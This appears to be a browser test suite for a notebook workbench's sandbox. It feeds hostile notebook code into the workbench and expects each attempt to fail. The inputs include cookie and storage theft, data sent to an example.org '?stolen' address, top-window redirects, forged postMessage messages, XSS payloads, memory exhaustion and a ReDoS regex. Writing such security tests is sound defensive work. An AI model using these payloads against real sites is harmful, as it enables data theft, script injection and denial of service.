import {describe, expect, inject, it} from "vitest";
import {launch} from "./browser.js";
import {watch, withBrowser} from "./pages.js";
import {cellAt, openShared, results, stands} from "./workbench.js";

const site = inject("site");
const browser = withBrowser();

/** Code of a notebook that means harm, and that must come to nothing. */
const ATTEMPTS: [string, string][] = [
  ["the page round it", "return window.parent.document.title"],
  ["the top window", "return window.top.document.body.innerHTML"],
  ["cookies", "return document.cookie"],
  ["local storage", "return window.localStorage.length"],
  [
    "the database",
    'return await new Promise((yes, no) => { const r = window.indexedDB.open("four-models"); r.onsuccess = yes; r.onerror = () => no(r.error); })'
  ],
  ["the address of the page", "return window.parent.location.href"],
  ["a request", `return await (await fetch("${site}/evidence.json")).text()`],
  ["a request elsewhere", 'return await fetch("https://example.org/?stolen")'],
  [
    "an old request",
    'const r = new window.XMLHttpRequest(); r.open("GET", "/evidence.json", false); r.send(); return r.responseText'
  ],
  [
    "a socket",
    'return await new Promise((yes, no) => { const s = new window["WebSocket"]("wss://example.org"); s.onopen = yes; s.onerror = () => no(new Error("no socket")); })'
  ],
  ["a peer", "return new window.RTCPeerConnection()"],
  [
    "a worker",
    'return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = yes; w.onerror = () => no(new Error("no worker")); })'
  ],
  [
    "a picture elsewhere",
    'const i = new Image(); i.src = "https://example.org/a.png?stolen"; await i.decode(); return i.width'
  ],
  [
    "a script elsewhere",
    'return await new Promise((yes, no) => { const s = document.createElement("script"); s.src = "https://example.org/a.js"; s.onload = yes; s.onerror = () => no(new Error("no script")); document.head.append(s); })'
  ],
  ["a module elsewhere", 'return await import("https://example.org/a.js")'],
  [
    "a window",
    'const w = window["open"]("https://example.org"); if (!w) throw new Error("no window"); return w'
  ]
];

describe("a hostile notebook", () => {
  const context = browser();

  it.each(ATTEMPTS)("gets nothing of %s", async (_, code) => {
    const {page, problems} = await openShared(context(), site, [
      {value: `(async () => { try { ${code} } catch (error) { return "refused: " + error.message } })()`}
    ]);
    await stands(page, 1, "done");
    const text = await results(page).locator(".result").first().innerText();
    expect(text === '""' || /refused: /.test(text), text).toBe(true);
    expect(problems.filter((d) => d.startsWith("asks for"))).toEqual([]);
    await page.close();
  });

  it("does not lead the window elsewhere", async () => {
    const {page} = await openShared(context(), site, [
      {value: 'window.top.location.href = "https://example.org/"; 1'},
      {
        value:
          'const a = document.createElement("a"); a.href = "https://example.org/"; a.target = "_top"; a.click();'
      },
      {
        value:
          'const f = document.createElement("form"); f.action = "https://example.org/"; f.target = "_top"; document.body.append(f); f.submit();'
      }
    ]);
    await page.waitForTimeout(1500);
    expect(page.url()).toContain(`${site}/workbench`);
    expect(context().pages()).toHaveLength(1);
    await page.close();
  });

  it.each([
    'setTimeout(() => { window.location.href = "https://example.org/?stolen"; }, 50);',
    `setTimeout(() => { window.location.href = "${site}/about?stolen"; }, 50);`,
    'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=https://example.org/?stolen"; document.head.append(m);'
  ])("is closed when it leads its own frame away: %s", async (value) => {
    const {page, problems} = await openShared(context(), site, [{value}]);
    await page.getByText("was stopped").waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    expect(problems.filter((d) => d.startsWith("asks for"))).toEqual([]);
    await page.close();
  });

  it("does not keep the page by taking more and more memory", async () => {
    // Ten megabytes a second: what it takes until it is stopped is the same on every machine.
    const code = `const all = [];
for (;;) {
  all.push(new Array(2e5).fill(all.length));
  const until = performance.now() + 80;
  while (performance.now() < until);
}`;
    const {page} = await openShared(context(), site, [{value: code}]);
    await cellAt(page, 1).locator(".wb-error").filter({hasText: "stopped after"}).waitFor();
    await page.getByRole("button", {name: "New"}).click();
    expect(await page.locator(".wb-cell").count()).toBe(1);
    await page.close();
  });

  it("does not speak for the page", async () => {
    const {page} = await openShared(context(), site, [
      {
        value: `await new Promise((go) => setTimeout(go, 500));
for (const message of [
        null, 1, "ready", {type: "ready"}, {type: "standing", id: 2, standing: "<b>"}, {type: "standing", id: 99, standing: "done"},
        {type: "heights", heights: {1: 1e12, 2: -5, 3: "x"}}, {type: "heights"}, {type: "need", name: "../../secret"}, {type: "need", name: "__proto__"},
        {type: "edit", id: "x"}, {type: "leave", id: {}}, {type: "snapshot", ticket: 1, results: null},
        {type: "link", address: "javascript:alert(1)"},
        {type: "standing", id: 2, standing: "failed", failure: {name: {}, message: "<img src=x onerror=alert(1)>".repeat(1000)}}
      ]) window.parent.postMessage(message, "*");
      const sent = true;`
      },
      {value: "const kept = 2;"}
    ]);
    await cellAt(page, 2).locator(".wb-error").waitFor();
    expect(await page.locator("#wb img").count()).toBe(0);
    expect((await cellAt(page, 2).locator(".wb-error").innerText()).length).toBeLessThan(2100);
    expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThan(100_000);
    await page.close();
  });

  it("has markup in its title and its code shown as words", async () => {
    const title = "<img src=x onerror=alert(1)>";
    const {page, problems} = await openShared(
      context(),
      site,
      [{mode: "html", value: "</script><script>alert(1)</script>"}],
      {run: false, title}
    );
    expect(await page.locator(".wb-title").inputValue()).toBe(title);
    expect(await page.title()).toContain(title);
    expect(await page.locator("#wb img").count()).toBe(0);
    await cellAt(page, 1).getByText("</script><script>alert(1)</script>").waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    expect(problems).toEqual([]);
    await page.close();
  });

  it("leaves nothing that acts in a page with results", async () => {
    const {page} = await openShared(context(), site, [
      {
        mode: "html",
        pinned: false,
        value:
          '<p onclick="alert(1)">Harm</p><a href="javascript:alert(1)">a</a><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"></a></svg><iframe srcdoc="<script>alert(1)</script>"></iframe><form action="https://example.org"><input></form><style>@import "https://example.org/a.css";</style>'
      }
    ]);
    await results(page).getByText("Harm").waitFor();
    await page.locator("summary", {hasText: "Download"}).click();
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", {name: /results/}).click()
    ]);
    const opened = await watch(context(), site);
    await opened.page.goto(`file://${await file.path()}`).catch(() => {});
    const text = await import("node:fs").then(async (fs) => fs.readFileSync(await file.path(), "utf8"));
    expect(text).toContain("Harm");
    expect(text.slice(text.indexOf("<main"))).not.toMatch(
      /<script|<iframe|onclick|javascript:|action=|@import/i
    );
    await opened.page.close();
    await page.close();
  });

  it.each([
    "#n=not-a-notebook",
    "#n=",
    "#open=../../evidence",
    "#open=nothing-here",
    "#doc=%E0%A4%A",
    "#doc=nobody",
    "#x"
  ])("opens the workbench all the same at %s", async (hash) => {
    const {page, problems} = await watch(context(), site);
    await page.goto(`${site}/workbench${hash}`);
    await page.locator(".wb-cell").first().waitFor();
    expect(problems.filter((d) => d.startsWith("throws"))).toEqual([]);
    await page.close();
  });
});

describe("a hostile notebook in a process of its own, as browsers on desktops give it", () => {
  it.each([
    ["takes all memory", "const all = []; for (;;) all.push(new Array(1e5).fill(all.length));"],
    ["never ends where no guard is", '/^(a+)+$/.test("a".repeat(60) + "b")']
  ])("leaves the page alive when it %s", async (_, value) => {
    const own = await launch({
      further: [
        "--site-per-process",
        "--enable-features=IsolateSandboxedIframes",
        "--js-flags=--max-old-space-size=256"
      ]
    });
    try {
      const inside = await own.newContext();
      const {page} = await openShared(inside, site, [{value}], {run: false});
      // Playwright takes a page for crashed when one of its frames is, and then rejects whatever it is
      // asked about it: so the page itself is asked over the protocol, and the clock is our own.
      const session = await inside.newCDPSession(page);
      await page.getByRole("button", {name: "Run it"}).click();
      await new Promise((later) => setTimeout(later, 5000));
      const {result} = await session.send("Runtime.evaluate", {
        expression: `[...document.querySelectorAll("button")].find((d) => d.textContent === "New").click();
          document.querySelectorAll(".wb-cell").length`
      });
      expect(result.value).toBe(1);
    } finally {
      await own.close();
    }
  });
});
